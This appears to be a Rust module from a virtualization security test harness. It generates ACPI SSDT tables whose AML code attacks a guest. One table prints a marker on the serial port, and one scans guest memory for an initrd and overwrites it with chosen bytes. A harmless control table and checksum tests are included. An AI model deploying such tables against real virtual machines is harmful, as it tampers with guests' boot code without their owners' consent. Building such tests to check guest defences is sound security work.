//! ACPI tables whose code attacks the guest.
//!
//! Source: ACPI specification 6.5, section 20.2 "AML Grammar Definition"; section 5.2.6 "System Description Table
//! Header".

use super::programs::MARKER;

/// The memory that is searched for the initrd: from the end of low memory to the end of the machine's memory.
const SEARCHED: (u32, u32) = (0x10_0000, 0x1000_0000);
const PAGE: u32 = 0x1000;

const LOCAL: u8 = 0x60;
const ARGUMENT: u8 = 0x68;
const STORE: u8 = 0x70;
const SUBTRACT: u8 = 0x74;
const BUFFER: u8 = 0x11;
const AND: u8 = 0x90;
const EQUAL: u8 = 0x93;
const LESS: u8 = 0x95;
const IF: u8 = 0xa0;
const WHILE: u8 = 0xa2;
const SCOPE: u8 = 0x10;
const METHOD: u8 = 0x14;
const REGION: [u8; 2] = [0x5b, 0x80];
const FIELD: [u8; 2] = [0x5b, 0x81];
const DEVICE: [u8; 2] = [0x5b, 0x82];
/// Address spaces of a region.
const MEMORY: u8 = 0;
const PORTS: u8 = 1;
/// Access types of a region's fields.
const BYTES: u8 = 1;
const WORDS: u8 = 3;

/// Returns a table whose code prints the marker on the first serial port.
pub(super) fn printing() -> Vec<u8> {
    let mut body = port();
    body.extend(print());
    table(&device(&method(b"_INI", 0, &body)))
}

/// Returns a table whose code searches memory for an initrd that begins with `begin`, and overwrites it with `other`.
///
/// `other` must be at most one page long.
pub(super) fn rewriting(begin: [u8; 16], other: &[u8]) -> Vec<u8> {
    let words: Vec<u32> =
        begin.chunks_exact(4).map(|word| word.iter().rev().fold(0, |sum, byte| sum << 8 | u32::from(*byte))).collect();
    // A region is an object of the method that creates it, so each page needs its own call.
    let mut page = region(b"PAGE", MEMORY, &[ARGUMENT], &number(PAGE));
    let parts: Vec<(&[u8; 4], usize)> = vec![(b"WRD0", 32), (b"WRD1", 32), (b"WRD2", 32), (b"WRD3", 32)];
    page.extend(fields(b"PAGE", WORDS, &parts));
    page.extend(fields(b"PAGE", BYTES, &[(b"DATA", other.len() * 8)]));
    let equal = |(name, _): &(&[u8; 4], usize), word: &u32| [&[EQUAL][..], &name[..], &number(*word)].concat();
    let mut tests = parts.iter().zip(&words).map(|(part, word)| equal(part, word));
    let first = tests.next().unwrap_or_default();
    let condition = tests.fold(first, |all, test| [&[AND][..], &all, &test].concat());
    let length = number(u32::try_from(other.len()).unwrap_or(PAGE));
    let buffer = [&[BUFFER][..], &sized(&[&length[..], other].concat())].concat();
    let store = [&[STORE][..], &buffer, b"DATA"].concat();
    page.extend(conditional(IF, &condition, &store));
    let mut search = [&[STORE][..], &number(SEARCHED.1), &[LOCAL]].concat();
    let condition = [&[LESS][..], &number(SEARCHED.0), &[LOCAL]].concat();
    let body = [&[SUBTRACT, LOCAL][..], &number(PAGE), &[LOCAL], b"FIND", &[LOCAL]].concat();
    search.extend(conditional(WHILE, &condition, &body));
    table(&device(&[method(b"FIND", 1, &page), method(b"_INI", 0, &search)].concat()))
}

/// Returns a table that has a device and no code.
pub(super) fn harmless() -> Vec<u8> {
    table(&device(&[]))
}

/// Returns code that prints the marker byte by byte.
fn print() -> Vec<u8> {
    let text = format!("\r\n{MARKER}\r\n");
    text.bytes().flat_map(|byte| [&[STORE][..], &number(u32::from(byte)), b"OUT_"].concat()).collect()
}

fn port() -> Vec<u8> {
    let mut out = region(b"PORT", PORTS, &number(0x3f8), &number(1));
    out.extend(fields(b"PORT", BYTES, &[(b"OUT_", 8)]));
    out
}

/// Returns a secondary table with this code.
fn table(code: &[u8]) -> Vec<u8> {
    const HEADER: usize = 36;
    let mut out = b"SSDT".to_vec();
    out.extend(u32::try_from(HEADER + code.len()).unwrap_or(0).to_le_bytes());
    out.extend([2, 0]);
    out.extend(b"HOST  ATTACK  \x01\0\0\0HOST\x01\0\0\0");
    out.extend(code);
    let sum = out.iter().fold(0u8, |sum, byte| sum.wrapping_add(*byte));
    if let Some(place) = out.get_mut(9) {
        *place = sum.wrapping_neg();
    }
    out
}

/// Returns a device on the system bus with this content.
fn device(content: &[u8]) -> Vec<u8> {
    let device = [&DEVICE[..], &sized(&[b"EVIL", content].concat())].concat();
    [&[SCOPE][..], &sized(&[&b"\\_SB_"[..], &device].concat())].concat()
}

/// Returns a method with this many arguments, which one thread runs at a time.
fn method(name: &[u8; 4], arguments: u8, body: &[u8]) -> Vec<u8> {
    [&[METHOD][..], &sized(&[&name[..], &[arguments | 8], body].concat())].concat()
}

fn region(name: &[u8; 4], space: u8, at: &[u8], length: &[u8]) -> Vec<u8> {
    [&REGION[..], name, &[space], at, length].concat()
}

/// Returns adjacent fields of a region, from their names and lengths in bits.
fn fields(region: &[u8; 4], access: u8, list: &[(&[u8; 4], usize)]) -> Vec<u8> {
    let list: Vec<u8> = list.iter().flat_map(|(name, bits)| [&name[..], &length(*bits)].concat()).collect();
    [&FIELD[..], &sized(&[&region[..], &[access], &list].concat())].concat()
}

fn conditional(kind: u8, condition: &[u8], body: &[u8]) -> Vec<u8> {
    [&[kind][..], &sized(&[condition, body].concat())].concat()
}

/// Returns a number as a constant of 32 bits.
fn number(number: u32) -> Vec<u8> {
    [&[0x0c][..], &number.to_le_bytes()].concat()
}

/// Returns a length, encoded in four bytes.
fn length(length: usize) -> [u8; 4] {
    let [low, middle, high, _] = u32::try_from(length >> 4).unwrap_or(0).to_le_bytes();
    let nibble = u8::try_from(length & 0xf).unwrap_or(0);
    [0xc0 | nibble, low, middle, high]
}

/// Returns content after its length, which includes itself.
fn sized(content: &[u8]) -> Vec<u8> {
    [&length(content.len() + 4)[..], content].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tables_have_correct_length_and_checksum() {
        for table in [printing(), rewriting(*b"0123456789abcdef", &[7; 700]), harmless()] {
            assert_eq!(table[4..8], u32::try_from(table.len()).unwrap().to_le_bytes());
            assert_eq!(table.iter().fold(0u8, |sum, byte| sum.wrapping_add(*byte)), 0);
        }
    }
}
